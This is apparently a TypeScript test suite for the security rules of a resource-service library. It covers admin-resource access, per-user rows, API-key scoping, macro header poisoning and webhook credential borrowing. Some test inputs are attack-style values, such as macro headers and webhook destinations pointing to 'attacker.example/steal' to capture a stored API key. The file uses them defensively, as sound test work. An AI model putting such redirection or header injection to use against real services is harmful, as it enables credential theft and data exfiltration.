import { createService, MemoryStorage, type AdminOptions, type Service } from '@resourcery/core';
import { call, RAW, type Reply } from './handle-support';

/**
 * Security (docs/security.md): the built-in admin resources and every indirect path obey
 * the caller, in an app that authenticates its callers itself and with API keys.
 */

const SESSIONS: Record<string, string> = { 's-ann': 'ann', 's-bob': 'bob', 's-root': 'root' };

/** The orders example in small: a session header names the user, each sees only their orders. */
function shop(admin?: AdminOptions): Service {
  const service = createService({
    authenticate: (request) => {
      const user = SESSIONS[request.headers['x-session'] ?? ''];
      if (user === undefined) throw new Error('no session');
      return { id: user, admin: user === 'root' };
    },
    admin,
  });
  service.addResource({
    name: 'Shop.Order',
    key: 'Id',
    storage: new MemoryStorage([
      { Id: 1, Owner: 'ann', Item: 'tea' },
      { Id: 2, Owner: 'bob', Item: 'secret cake' },
    ]),
    rules: { rows: (caller) => (caller.principal.admin ? undefined : `Owner=${caller.principal.id}`) },
  });
  return service;
}

function as(
  user: string,
  service: Service,
  method: string,
  uri: string,
  body?: unknown,
  headers: Record<string, string> = {},
): Promise<Reply> {
  return call(service, method, uri, { headers: { ...RAW, 'x-session': `s-${user}`, ...headers }, body });
}

const ADMIN_URIS = ['/Service.Admin.Error', '/Service.Admin.Macro', '/Service.Admin.Webhook', '/Service.Admin.WebhookLog'];

describe('with authenticate, the admin resources are closed until the app opens them', () => {
  test.each(ADMIN_URIS)('%s: every method is 403 to an ordinary caller', async (uri) => {
    const service = shop();
    for (const method of ['GET', 'REPORT', 'DELETE', 'POST', 'PATCH']) {
      const r = await as('ann', service, method, method === 'DELETE' ? `${uri}/_/unsafe=true` : uri, method === 'POST' ? {} : undefined);
      expect([method, r.status]).toEqual([method, 403]);
    }
  });

  test("one caller cannot read another's session from the Error records, nor delete them", async () => {
    const service = shop();
    const failed = await as('bob', service, 'POST', '/Shop.Order', { Id: 2, Owner: 'bob', Item: 'x' });
    expect(failed.status).toBeGreaterThanOrEqual(400);
    expect((await as('ann', service, 'GET', '/Service.Admin.Error')).status).toBe(403);
    expect((await as('ann', service, 'DELETE', '/Service.Admin.Error/_/unsafe=true')).status).toBe(403);
    // The app's own rules let root read them: the record is still there.
    const opened = shop({ rules: { allow: (caller) => caller.principal.admin } });
    await as('bob', opened, 'POST', '/Shop.Order', { Id: 2, Owner: 'bob', Item: 'x' });
    expect((await as('ann', opened, 'GET', '/Service.Admin.Error')).status).toBe(403);
    const records = await as('root', opened, 'GET', '/Service.Admin.Error/ResourceName=Shop.Order');
    expect(records.json).toHaveLength(1);
    expect(records.json[0].Principal).toBe('bob');
  });

  test('a row rule on Principal lets each caller follow the link to its own records only', async () => {
    const service = shop({
      resources: {
        'Service.Admin.Error': {
          allow: (caller, method) => method === 'GET' || caller.principal.admin,
          rows: (caller) => (caller.principal.admin ? undefined : `Principal=${caller.principal.id}`),
        },
      },
    });
    const bobs = await as('bob', service, 'GET', '/Shop.Order/_/bogus=1');
    const anns = await as('ann', service, 'GET', '/Nothing');
    expect(bobs.headers.errorinfo).toBeDefined();
    const own = await as('ann', service, 'GET', anns.headers.errorinfo);
    expect(own.json.map((r: { Principal: string }) => r.Principal)).toEqual(['ann']);
    expect((await as('ann', service, 'GET', bobs.headers.errorinfo)).status).toBe(204);
    expect((await as('ann', service, 'GET', '/Service.Admin.Error')).json).toHaveLength(1);
    expect((await as('root', service, 'GET', '/Service.Admin.Error')).json).toHaveLength(2);
    expect((await as('ann', service, 'DELETE', '/Service.Admin.Error/_/unsafe=true')).status).toBe(403);
    // Macros stay closed: only the Error records were opened.
    expect((await as('root', service, 'GET', '/Service.Admin.Macro')).status).toBe(403);
  });

  test('rules for an unknown admin resource are refused at start', () => {
    expect(() => shop({ resources: { 'Service.Admin.Nope': {} } as AdminOptions['resources'] })).toThrow(/Service\.Admin\.Nope/);
  });

  test('an open service and API keys keep their behaviour: keys name the admin resources they may use', async () => {
    const open = createService();
    expect((await call(open, 'GET', '/Service.Admin.Macro')).status).toBe(204);
    const keyed = createService({
      apiKeys: [
        { key: 'admin-key', allow: [{ resources: ['Service.Admin.*'] }] },
        { key: 'user-key', name: 'user', allow: [{ resources: ['Shop.*'] }] },
      ],
    });
    keyed.addResource({ name: 'Shop.Order' });
    await call(keyed, 'GET', '/Shop.Order/_/bogus=1', { headers: { authorization: 'apikey user-key' } });
    expect((await call(keyed, 'GET', '/Service.Admin.Error', { headers: { authorization: 'apikey user-key' } })).status).toBe(403);
    const records = await call(keyed, 'GET', '/Service.Admin.Error', { headers: { ...RAW, authorization: 'apikey admin-key' } });
    expect(records.json.map((r: { Principal: string }) => r.Principal)).toEqual(['user', 'user']);
  });
});

describe('macro poisoning: a macro cannot send its callers’ data elsewhere or change who they are', () => {
  const everyoneWritesMacros: AdminOptions = { resources: { 'Service.Admin.Macro': { allow: () => true } } };

  test.each([
    ['Destination', 'PUT /Shop.Drop'],
    ['Destination', 'POST https://attacker.example/drop'],
    ['Source', 'GET /Shop.Order'],
    ['X-Session', 's-root'],
    ['X-Auth-Token', 't'],
    ['X-Forwarded-For', '10.0.0.1'],
    ['Host', 'elsewhere.example'],
  ])('in-app: a %s header is refused at save (400)', async (name, value) => {
    const service = shop(everyoneWritesMacros);
    const r = await as('ann', service, 'POST', '/Service.Admin.Macro', { Name: 'report', Uri: '/Shop.Order', Headers: { [name]: value } });
    expect([r.status, r.json.ErrorCode]).toEqual([400, 'InvalidResourceEntity']);
    expect(r.json.Data.Headers).toMatch(new RegExp(name));
  });

  test('with an API key holding only Macro rights: Destination and Source are refused, Accept is kept', async () => {
    const keyed = createService({ apiKeys: [{ key: 'macros', allow: [{ resources: ['Service.Admin.Macro'] }] }, { key: 'root' }] });
    const headers = { ...RAW, authorization: 'apikey macros' };
    for (const h of [{ Destination: 'PUT /Loot' }, { source: 'GET /Secret' }]) {
      const r = await call(keyed, 'POST', '/Service.Admin.Macro', { headers, body: { Name: 'm', Uri: '/Secret', Headers: h } });
      expect(r.status).toBe(400);
    }
    const ok = await call(keyed, 'POST', '/Service.Admin.Macro', {
      headers,
      body: { Name: 'm', Uri: '/Secret', Headers: { Accept: 'application/json' } },
    });
    expect(ok.status).toBe(201);
  });

  test("a Destination stored before the check (or by hand) is never set: the caller's rows stay where they are", async () => {
    const macros = new MemoryStorage([
      {
        Name: 'mine',
        Uri: '/Shop.Order',
        Body: null,
        Headers: { Destination: 'POST /Shop.Drop' },
        OverwriteBody: false,
        OverwriteHeaders: true,
      },
    ]);
    const service = createService({
      authenticate: (request) => ({ id: SESSIONS[request.headers['x-session'] ?? ''] ?? 'nobody' }),
      adminStorage: (name) => (name === 'Service.Admin.Macro' ? macros : undefined),
    });
    service.addResource({ name: 'Shop.Order', storage: new MemoryStorage([{ Id: 2, Owner: 'bob', Item: 'secret cake' }]) });
    service.addResource({ name: 'Shop.Drop' });
    const r = await as('bob', service, 'GET', '/$mine');
    expect(r.json).toEqual([{ Id: 2, Owner: 'bob', Item: 'secret cake' }]);
    expect((await as('ann', service, 'GET', '/Shop.Drop')).status).toBe(204);
  });
});

describe('webhook credential borrowing: a webhook acts with the rights of whoever saved it last', () => {
  const HOOKS = '/Service.Admin.Webhook';

  function keyed() {
    const hooks = new MemoryStorage();
    const service = createService({
      apiKeys: [{ key: 'root' }, { key: 'hooker', allow: [{ resources: ['Service.Admin.Webhook', 'Public'] }] }],
      adminStorage: (name) => (name === 'Service.Admin.Webhook' ? hooks : undefined),
    });
    for (const name of ['Public', 'Secret', 'Archive']) service.addResource({ name });
    const as = (key: string, method: string, uri: string, body?: unknown) =>
      call(service, method, uri, { headers: { ...RAW, authorization: `apikey ${key}` }, body });
    const stored = () =>
      hooks.all()[0] as { Headers: Record<string, string>; CustomPayloadRequest: { Headers: Record<string, string> } | null };
    return { service, as, stored };
  }

  async function rootsWebhook(s: ReturnType<typeof keyed>, extra: object = {}) {
    const made = await s.as('root', 'POST', HOOKS, {
      EventSelector: '/Public.Inserted',
      Destination: 'https://receiver.example/hook',
      Headers: { Authorization: 'apikey root', 'X-Trace': 'a' },
      ...extra,
    });
    expect(made.status).toBe(201);
    return made.json[0].Id as string;
  }

  test('a new Destination drops the stored Authorization: the attacker never receives the key', async () => {
    const s = keyed();
    const id = await rootsWebhook(s);
    const r = await s.as('hooker', 'PATCH', `${HOOKS}/Id=${id}`, { Destination: 'https://attacker.example/steal' });
    expect(r.status).toBe(200);
    expect(s.stored().Headers).toEqual({ 'X-Trace': 'a' });
  });

  test('the masked value sent back with a new Destination does not keep it either; a credential given again is kept', async () => {
    const s = keyed();
    const id = await rootsWebhook(s);
    await s.as('hooker', 'PATCH', `${HOOKS}/Id=${id}`, { Destination: 'https://attacker.example/a', Headers: { Authorization: '*****' } });
    expect(s.stored().Headers).toEqual({});
    await s.as('hooker', 'PATCH', `${HOOKS}/Id=${id}`, { Destination: 'https://b.example/a', Headers: { Authorization: 'apikey hooker' } });
    expect(s.stored().Headers).toEqual({ Authorization: 'apikey hooker' });
    // Same target: the masked value sent back keeps the stored credential, as before.
    await s.as('hooker', 'PATCH', `${HOOKS}/Id=${id}`, { Label: 'x', Headers: { Authorization: '*****' } });
    expect(s.stored().Headers).toEqual({ Authorization: 'apikey hooker' });
  });

  test('a new Method or custom payload request drops it too', async () => {
    const s = keyed();
    const id = await rootsWebhook(s, { CustomPayloadRequest: { URI: '/Public', Headers: { Authorization: 'apikey root' } } });
    await s.as('hooker', 'PATCH', `${HOOKS}/Id=${id}`, { Method: 'PUT' });
    expect(s.stored().Headers).toEqual({ 'X-Trace': 'a' });
    expect(s.stored().CustomPayloadRequest!.Headers).toEqual({});
  });

  test.each([
    ['a local Destination it may not write', { Destination: '/Secret', Method: 'POST' }],
    ['a custom payload from a resource it may not read', { CustomPayloadRequest: { URI: '/Secret' } }],
    ['events of a resource it may not read', { EventSelector: '/Secret.Inserted' }],
  ])('a save that names %s is 403', async (_what, patch) => {
    const s = keyed();
    const id = await rootsWebhook(s);
    const r = await s.as('hooker', 'PATCH', `${HOOKS}/Id=${id}`, patch);
    expect([r.status, r.json.ErrorCode]).toEqual([403, 'Forbidden']);
    expect(s.stored().Headers.Authorization).toBe('apikey root');
  });

  test("even a label change is 403 when the webhook writes where the saver may not (it would become the saver's)", async () => {
    const s = keyed();
    const made = await s.as('root', 'POST', HOOKS, { EventSelector: '/Public.Inserted', Destination: '/Archive' });
    const r = await s.as('hooker', 'PATCH', `${HOOKS}/Id=${made.json[0].Id}`, { Label: 'mine' });
    expect(r.status).toBe(403);
  });

  test.each(['Source', 'Destination'])('a %s header in Headers or the custom payload request is refused (400)', async (name) => {
    const s = keyed();
    const base = { EventSelector: '/Public.Inserted', Destination: '/Public' };
    const inHeaders = await s.as('root', 'POST', HOOKS, { ...base, Headers: { [name]: 'GET /Secret' } });
    expect(inHeaders.status).toBe(400);
    const inRequest = await s.as('root', 'POST', HOOKS, {
      ...base,
      CustomPayloadRequest: { URI: '/Public', Headers: { [name]: 'PUT /Public' } },
    });
    expect(inRequest.status).toBe(400);
  });

  test('in-app: a session header goes no further than where its owner sent it, and the saver needs rights on the target', async () => {
    const hooks = new MemoryStorage();
    const service = createService({
      authenticate: (request) => ({ id: SESSIONS[request.headers['x-session'] ?? ''] ?? 'nobody' }),
      admin: { resources: { 'Service.Admin.Webhook': { allow: () => true } } },
      adminStorage: (name) => (name === 'Service.Admin.Webhook' ? hooks : undefined),
    });
    service.addResource({ name: 'Shop.Order' });
    service.addResource({ name: 'Shop.Ledger', rules: { allow: (caller) => caller.principal.id === 'root' } });
    const made = await as('root', service, 'POST', HOOKS, {
      EventSelector: '/Shop.Order.Inserted',
      Destination: 'https://root.example/hook',
      Headers: { 'X-Session': 's-root' },
    });
    const id = made.json[0].Id;
    expect(made.json[0].Headers).toEqual({ 'X-Session': '*****' });
    expect((await as('ann', service, 'PATCH', `${HOOKS}/Id=${id}`, { Destination: '/Shop.Ledger' })).status).toBe(403);
    expect((await as('ann', service, 'PATCH', `${HOOKS}/Id=${id}`, { CustomPayloadRequest: { URI: '/Shop.Ledger' } })).status).toBe(403);
    expect((await as('ann', service, 'PATCH', `${HOOKS}/Id=${id}`, { Destination: 'https://ann.example/x' })).status).toBe(200);
    expect((hooks.all()[0] as { Headers: object }).Headers).toEqual({});
  });
});

describe('what a caller is shown: the listing and the OpenAPI document name only what it may use', () => {
  const OPENAPI = { accept: 'application/vnd.oai.openapi+json' };

  function keyed(): Service {
    const service = createService({
      apiKeys: [
        { key: 'reader-key', name: 'reader', allow: [{ resources: ['Lab.Plant'], methods: ['GET'] }] },
        { key: 'root-key', name: 'root' },
      ],
    });
    service.addResource({ name: 'Lab.Plant', storage: new MemoryStorage([{ Name: 'Fern' }]) });
    service.addResource({ name: 'Lab.Secret', storage: new MemoryStorage([{ Formula: 'x' }]) });
    return service;
  }
  const key = (k: string) => ({ headers: { ...RAW, authorization: `apikey ${k}` } });

  test('with API keys: the listing shows a key its resources with its methods, and counts what it shows', async () => {
    const service = keyed();
    const listed = (await call(service, 'GET', '/Service.AvailableResource', key('reader-key'))).json as any[];
    const names = listed.map((r) => r.Name);
    expect(names).toContain('Lab.Plant');
    expect(names).toContain('Service.AvailableResource');
    for (const hidden of ['Lab.Secret', 'Lab.Secret.Inserted', 'Service.Admin.Error', 'Service.Admin.Macro', 'Service.Admin.Webhook'])
      expect(names).not.toContain(hidden);
    // GET brings REPORT and HEAD, which read the same rows.
    expect(listed.find((r) => r.Name === 'Lab.Plant').Methods).toEqual(['GET', 'REPORT', 'HEAD']);
    expect((await call(service, 'REPORT', '/Service.AvailableResource', key('reader-key'))).json).toBe(listed.length);
    // A key with every right is shown everything, with every method.
    const all = (await call(service, 'GET', '/Service.AvailableResource', key('root-key'))).json as any[];
    expect(all.map((r) => r.Name)).toEqual(expect.arrayContaining(['Lab.Secret', 'Lab.Secret.Inserted', 'Service.Admin.Error']));
    expect(all.find((r) => r.Name === 'Lab.Plant').Methods).toContain('DELETE');
  });

  test('with API keys: the OpenAPI document describes only the resources and methods of the key', async () => {
    const service = keyed();
    const doc = (await call(service, 'GET', '/', { headers: { ...OPENAPI, authorization: 'apikey reader-key' } })).json;
    expect(Object.keys(doc.paths).some((p) => p.startsWith('/Lab.Secret'))).toBe(false);
    expect(Object.keys(doc.components.schemas).some((s) => s.startsWith('Lab.Secret'))).toBe(false);
    expect(Object.keys(doc.webhooks)).not.toContain('Lab.Secret.Inserted');
    expect(doc['x-resources'].map((r: any) => r.name)).not.toContain('Lab.Secret');
    expect(Object.keys(doc.paths['/Lab.Plant'])).toContain('get');
    expect(Object.keys(doc.paths['/Lab.Plant'])).not.toContain('post');
    expect(Object.keys(doc.paths['/Lab.Plant'])).not.toContain('delete');
    const full = (await call(service, 'GET', '/', { headers: { ...OPENAPI, authorization: 'apikey root-key' } })).json;
    expect(Object.keys(full.paths)).toContain('/Lab.Secret');
    expect(Object.keys(full.paths['/Lab.Plant'])).toContain('delete');
  });

  test("in-app: a resource the app's rules close to a caller is neither listed nor described to it", async () => {
    const service = shop();
    service.addResource({
      name: 'Shop.Ledger',
      storage: new MemoryStorage([{ Total: 1 }]),
      rules: { allow: (caller) => caller.principal.admin },
    });
    const annList = ((await as('ann', service, 'GET', '/Service.AvailableResource', undefined, RAW)).json as any[]).map((r) => r.Name);
    expect(annList).toContain('Shop.Order');
    expect(annList).not.toContain('Shop.Ledger');
    expect(annList).not.toContain('Service.Admin.Error');
    const annDoc = (await as('ann', service, 'GET', '/', undefined, OPENAPI)).json;
    expect(Object.keys(annDoc.paths)).not.toContain('/Shop.Ledger');
    const rootList = ((await as('root', service, 'GET', '/Service.AvailableResource', undefined, RAW)).json as any[]).map((r) => r.Name);
    expect(rootList).toContain('Shop.Ledger');
  });
});
